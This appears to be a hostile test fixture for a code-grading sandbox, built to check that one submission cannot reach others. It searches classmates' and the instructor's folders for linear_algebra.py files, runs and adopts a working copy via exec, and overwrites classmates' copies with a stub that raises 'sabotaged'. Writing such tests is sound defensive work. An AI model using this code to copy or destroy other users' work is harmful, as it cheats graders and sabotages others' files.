"""Reads and overwrites classmates' copies: looks for other students' linear_algebra.py in the
classroom's scratch folders, other jails' private copies and the instructor's submissions folder,
adopts the functions of the first one that works, and overwrites every classmate copy it can
(only files carrying this run's token, so nothing outside the test is touched).
Implements nothing itself: must score 0, and every classmate must keep their grade.
"""
import glob
import os
from pathlib import Path

import numpy as np

HOSTILE = globals().get("HOSTILE", {"token": "t", "tmp": "/nonexistent", "submissions": "/nonexistent",
                                    "me": "me"})
TOKEN = HOSTILE["token"]
BROKEN = f"# {TOKEN}: overwritten by a classmate\ndef lu_solve(A, b):\n    raise RuntimeError('sabotaged')\n"


def _classmate_files():
    patterns = [
        os.path.join(HOSTILE["tmp"], "kata-classroom-*", "*", "*", "*.py"),
        os.path.join(HOSTILE["tmp"], "kata-jail-*", "submission", "*.py"),
        os.path.join(HOSTILE["tmp"], "*", "*", "*", "*.py"),
        os.path.join(HOSTILE["submissions"], "*", "*", "*.py"),
        "/tmp/kata-classroom-*/*/*/*.py",
        "/tmp/kata-jail-*/submission/*.py",
    ]
    seen = []
    for pattern in patterns:
        for path in glob.glob(pattern):
            if HOSTILE["me"] not in path and path not in seen:
                seen.append(path)
    return seen


def _works(namespace):
    try:
        x = namespace["lu_solve"](np.array([[2.0, 1.0], [1.0, 3.0]]), np.array([3.0, 5.0]))
        return np.allclose(x, [0.8, 1.4])
    except BaseException:
        return False


def _copy_and_sabotage():
    adopted = None
    for path in _classmate_files():
        try:
            text = Path(path).read_text()
        except (OSError, ValueError):
            continue
        if adopted is None and "def lu_solve" in text:
            namespace = {"__name__": "classmate"}
            try:
                exec(compile(text, path, "exec"), namespace)
            except BaseException:
                namespace = {}
            if _works(namespace):
                globals().update({k: v for k, v in namespace.items() if not k.startswith("__")})
                adopted = path
        if TOKEN in path:  # only this test's own classmates
            try:
                Path(path).write_text(BROKEN)
            except OSError:
                pass
    return adopted


ADOPTED = _copy_and_sabotage()
